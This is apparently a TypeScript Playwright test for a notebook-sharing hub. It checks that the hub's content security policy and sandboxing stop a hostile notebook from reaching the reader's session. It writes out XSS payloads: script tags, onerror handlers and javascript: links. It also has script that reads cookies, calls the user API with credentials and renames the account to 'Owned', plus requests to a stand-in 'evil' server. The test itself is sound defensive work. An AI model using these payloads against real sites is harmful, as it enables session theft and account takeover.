import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../support/hub.ts';
import { notebookFile, publish } from '../support/notebooks.ts';
import { RUN_TIMEOUT, runPage } from '../support/run-page.ts';

/** Tries one thing after another with the session of whoever runs the notebook, and lists what it got. */
const hostileScript = (evil: string) => `
<pre id="loot">trying</pre>
<script>
(async () => {
  const got = [];
  const attempt = async (name, work) => {
    try { const value = await work(); got.push(name + ': ' + (value || 'nothing')); }
    catch (error) { got.push(name + ': refused'); }
  };
  const settled = (promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error('late')), 1500))]);
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length + ' items');
  await attempt('page', () => parent.document.body.textContent);
  await attempt('me', () => settled(fetch('/api/v1/me', { credentials: 'include' })).then((r) => r.text()));
  await attempt('rename', () => settled(fetch('/api/v1/me', { method: 'PATCH', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"name":"Owned"}' })).then((r) => r.text()));
  await attempt('stranger', () => settled(fetch('${evil}/fetch', { mode: 'no-cors' })).then(() => 'sent'));
  await attempt('image', () => settled(new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = reject; i.src = '${evil}/image'; })));
  await attempt('form', () => { const f = document.createElement('form'); f.method = 'post'; f.action = '${evil}/form'; document.body.append(f); f.submit(); });
  await attempt('window', () => String(window.open('${evil}/window') ?? ''));
  await attempt('top', () => { top.location.href = '${evil}/top'; });
  document.getElementById('loot').textContent = got.join('\\n');
})();
</script>`;

const hostileMarkdown = (evil: string) => `# Friendly title

<script>window.owned = 1</script><img src="x" onerror="window.owned = 1"><img src="${evil}/markdown-image">
<form action="${evil}/markdown-form"><button>Press me</button></form><iframe src="${evil}/markdown-frame"></iframe>
<a href="javascript:window.owned = 1">A link</a> <svg><script>window.owned = 1</script></svg>
<style>body { display: none }</style><base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">

The end of the text.`;

test('a hostile notebook reaches nothing of the person who reads and runs it', async ({
  page,
  hub,
  desk,
}) => {
  const visits: string[] = [];
  const stranger = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.end('x');
  }).listen(0, 'localhost');
  await once(stranger, 'listening');
  const evil = `http://localhost:${(stranger.address() as AddressInfo).port}`;
  const path = await publish(desk.owner, {
    space: desk.space,
    file: notebookFile(
      hostileMarkdown(evil),
      {
        code: `from IPython.display import HTML, Markdown, display\ndisplay(HTML(${JSON.stringify(hostileScript(evil))}))`,
      },
      { code: `display(Markdown(${JSON.stringify(hostileMarkdown(evil))}))` },
    ),
  });

  const answer = await page.goto(hub.url + path);
  const policy = (await answer?.headerValue('content-security-policy')) ?? '';
  expect(policy.split('; ')).toEqual(
    expect.arrayContaining([
      "default-src 'self'",
      // Besides files of the hub only what stands in the document and is named by its hash.
      expect.stringMatching(/^script-src 'self'(?: 'sha256-[\w+/]{43}=')* 'wasm-unsafe-eval'$/),
      "object-src 'none'",
    ]),
  );
  const article = page.getByRole('article');
  await expect(article.getByText('The end of the text.')).toBeVisible();
  await expect(
    article.locator('script, iframe, form, style, base, meta, [onerror], [href^="javascript"]'),
  ).toHaveCount(0);

  await page.getByRole('link', { name: 'Run', exact: true }).first().click();
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await page.waitForURL(/\/runs\//);
  const address = page.url();
  await expect(runPage(page).status).toContainText('Done in', { timeout: RUN_TIMEOUT });
  await expect(page.frameLocator('iframe').first().locator('#loot')).toHaveText(
    [
      'cookie: refused',
      'storage: refused',
      'page: refused',
      'me: refused',
      'rename: refused',
      'stranger: refused',
      'image: refused',
      'form: nothing',
      'window: nothing',
      'top: refused',
    ].join('\n'),
    { timeout: RUN_TIMEOUT },
  );

  expect(page.url()).toBe(address);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  expect((await desk.owner.client.identity.getMe()).user.name).toBe(desk.owner.name);
  expect(page.context().pages()).toEqual([page]);
  const frame = await page.request.get(`${hub.url}/output-frame`);
  expect(frame.headers()['content-security-policy']).toContain("sandbox allow-scripts; default-src 'none'");
  expect(visits).toEqual([]);
  stranger.close();
});
